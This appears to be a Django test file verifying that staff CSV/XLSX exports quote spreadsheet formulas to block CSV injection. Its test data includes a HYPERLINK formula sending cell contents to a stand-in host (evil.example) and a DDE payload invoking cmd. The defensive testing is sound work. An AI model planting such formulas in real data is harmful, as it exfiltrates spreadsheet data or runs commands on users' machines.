"""Exports staff open in a spreadsheet never carry a live formula typed by someone else."""

import csv
import io

import pytest
import tablib
from django.contrib import admin
from django.urls import reverse
from import_export.admin import ExportMixin
from import_export.formats import base_formats

from core import exports
from funding.resources import CallResource
from members.resources import CooperativeResource
from tests.funding.factories import CallFactory
from tests.members.factories import CooperativeFactory
from tests.startups.factories import ApplicationFactory, SupportProgrammeFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Clicca")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("+39 051 123456", "'+39 051 123456"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Cooperativa = futuro", "Cooperativa = futuro"),
        ("", ""),
        (-3, -3),
        (None, None),
    ],
)
def test_safe_cell_quotes_text_a_spreadsheet_would_evaluate(value, written):
    assert exports.safe_cell(value) == written


def read_csv(content):
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_the_board_export_quotes_what_applicants_typed(staff_client):
    programme = SupportProgrammeFactory()
    ApplicationFactory(
        programme=programme, startup_name=FORMULA, rejection_reason="@cmd|' /C calc'!A0"
    )
    response = staff_client.get(reverse("startups:board-export", kwargs={"slug": programme.slug}))
    assert response.status_code == 200
    header, row = read_csv(response.content)
    assert row[header.index("Nome della startup")] == "'" + FORMULA
    assert row[header.index("Motivo del rifiuto")] == "'@cmd|' /C calc'!A0"
    assert row[header.index("Dimensione del team")] == "3"


def export_fields(resource):
    prefix = type(resource).__name__.lower()
    return {f"{prefix}_{name}": "on" for name in resource.get_export_order()}


def admin_export(staff_client, path, resource, fmt):
    return staff_client.post(
        path, {"resource": "0", "format": fmt, "export_items": [], **export_fields(resource)}
    )


def test_the_admin_exports_cooperatives_as_csv_with_formulae_quoted(staff_client):
    CooperativeFactory(slug="formula", description=FORMULA, phone="+39 051 123456")
    response = admin_export(
        staff_client, "/admin/members/cooperative/export/", CooperativeResource(), "0"
    )
    assert response.status_code == 200
    header, row = read_csv(response.content)
    assert row[header.index("description")] == "'" + FORMULA
    assert row[header.index("phone")] == "'+39051123456"  # stored normalised
    assert row[header.index("slug")] == "formula"


def test_the_admin_exports_cooperatives_as_xlsx_without_live_formulae(staff_client):
    CooperativeFactory(slug="formula", description=FORMULA)
    response = admin_export(
        staff_client, "/admin/members/cooperative/export/", CooperativeResource(), "1"
    )
    assert response.status_code == 200
    data = tablib.Dataset().load(response.content, format="xlsx")
    assert data["description"] == ["'" + FORMULA]
    assert data["slug"] == ["formula"]


def test_the_admin_exports_calls_as_csv_with_formulae_quoted(staff_client):
    CallFactory(title=FORMULA, summary="-1+1")
    response = admin_export(staff_client, "/admin/funding/call/export/", CallResource(), "0")
    assert response.status_code == 200
    header, row = read_csv(response.content)
    assert row[header.index("title_en")] == "'" + FORMULA
    assert row[header.index("summary_en")] == "'-1+1"


def test_every_admin_spreadsheet_export_uses_the_safe_formats():
    """A new admin with exports cannot forget: CSV and XLSX must come from core.exports."""
    spreadsheet = (base_formats.CSV, base_formats.XLSX, base_formats.XLS, base_formats.TSV)
    for model_admin in admin.site._registry.values():
        if not isinstance(model_admin, ExportMixin):
            continue
        for fmt in model_admin.get_export_formats():
            if issubclass(fmt, spreadsheet):
                assert issubclass(fmt, exports.SafeExportMixin), (type(model_admin), fmt)
